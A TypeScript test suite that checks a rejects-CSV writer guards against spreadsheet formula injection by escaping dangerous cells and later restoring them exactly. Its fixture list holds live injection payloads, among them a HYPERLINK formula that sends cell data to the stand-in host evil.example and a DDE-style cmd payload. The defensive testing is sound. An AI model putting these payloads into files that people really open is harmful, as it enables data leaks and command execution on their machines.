/**
 * Issue 27, point 9: a rejects CSV is opened in a spreadsheet by whoever fixes the rows, so a cell an inbox writer
 * made to look like a formula (`=HYPERLINK(...)`, `@SUM(...)`, `+cmd|...`, `-2+3`, a TAB or CR first) must reach
 * that spreadsheet as text: written with a leading `'`. The fix dropped again must still read the cell as it was in
 * the original file, so the corrected rows are sent with their own values, not with our apostrophe.
 */
import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { fromSpreadsheetSafe, spreadsheetSafe } from '../../src/ingest/file/rejects-csv.ts';
import type { FileResult } from '../../src/ingest/file/push-file.ts';
import { rejectLines, reportOf } from '../fixtures/push/push-report.ts';
import { abuseSize } from '../support/abuse.ts';
import { drive } from '../support/manual-clock.ts';
import { usePushHarness, type PushHarness } from '../support/push-harness.ts';

const run = usePushHarness();

type Source = Awaited<ReturnType<PushHarness['source']>>;
const push = (source: Source, name: string, content: string) => drive(run.clock, run.h.push(source, name, content));
const storeRecord = (item: string) => [...run.h.sandbox.control.world.productStore.table.rows()].find((r) => r.item_id === item);
const rejectsOf = (result: FileResult) => ('rejectsPath' in result ? result.rejectsPath : null);

/** Item ids a spreadsheet would run, one per formula start, and one that really begins with an apostrophe. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tTAB-1', '\r=CR-1', "'=QUOTED-1"];

describe('rejects CSV against formula injection', () => {
  it('every cell a spreadsheet would run starts with an apostrophe, and a fix dropped again sends the cells as they were', async () => {
    const source = await run.h.source('product_store');
    const store = run.h.sandbox.control.state().stores[0];
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    const rows = HOSTILE.map((item) => `${quoted(item)},${store},=1+1`);
    const first = await push(source, 'hostile.csv', `item_id,store_id,current_price\r\n${rows.join('\r\n')}\r\n`);
    expect((await reportOf(first, 'failed')).rows).toMatchObject({ read: HOSTILE.length, rejected: HOSTILE.length });

    const text = (await readFile(rejectsOf(first) ?? '', 'utf8')).replace(/^\uFEFF/, '');
    const { parse } = await import('csv-parse/sync');
    const records: string[][] = parse(text, { relax_column_count: true });
    for (const record of records.slice(1)) {
      for (const cell of record) expect(cell, `cell ${JSON.stringify(cell)} is safe to open`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(records.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((item) => `'${item}`));
    expect(records.slice(1).map((r) => r[3])).toEqual(HOSTILE.map(() => "'=1+1"));

    // The person fixes the prices in the spreadsheet and saves; the item ids stay as the spreadsheet shows them.
    const fixed = text.replaceAll(",'=1+1,", ',4.50,');
    const second = await push(source, 'hostile.csv.rejects.csv', `\uFEFF${fixed}`);
    expect((await reportOf(second)).rows).toMatchObject({ read: HOSTILE.length, accepted: HOSTILE.length, rejected: 0 });
    // The cells as the original file had them (the reader trims a cell: TAB and CR first are whitespace).
    for (const item of HOSTILE) expect(storeRecord(item.trim())?.current_price, item).toBe('4.50');
    expect(storeRecord("''=QUOTED-1")).toBeUndefined();
  });

  it('a rejected header cell is escaped too, and the fix still finds its column', async () => {
    const source = await run.h.source('product_store', { columns: { item_id: '=item', store_id: 'store_id', current_price: 'current_price' } });
    const store = run.h.sandbox.control.state().stores[0];
    const first = await push(source, 'header.csv', `=item,store_id,current_price\r\nHD-1,${store},zwei\r\n`);
    const lines = await rejectLines(rejectsOf(first));
    expect(lines[0]).toBe("line,'=item,store_id,current_price,field,code,message");
    const fix = (await readFile(rejectsOf(first) ?? '', 'utf8')).replace(',zwei,', ',2.00,');
    expect((await reportOf(await push(source, 'header.csv.rejects.csv', fix))).rows).toMatchObject({ read: 1, accepted: 1 });
    expect(storeRecord('HD-1')?.current_price).toBe('2.00');
  });

  it('the escape is undone exactly, whatever the cell', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', 'a', '1', ' '];
    let seed = 27;
    const random = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
    for (let n = 0; n < abuseSize(5_000, 200_000); n++) {
      const cell = Array.from({ length: Math.floor(random() * 6) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
      const written = spreadsheetSafe(cell);
      expect(written, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      expect(fromSpreadsheetSafe(written), JSON.stringify(cell)).toBe(cell);
    }
  });
});
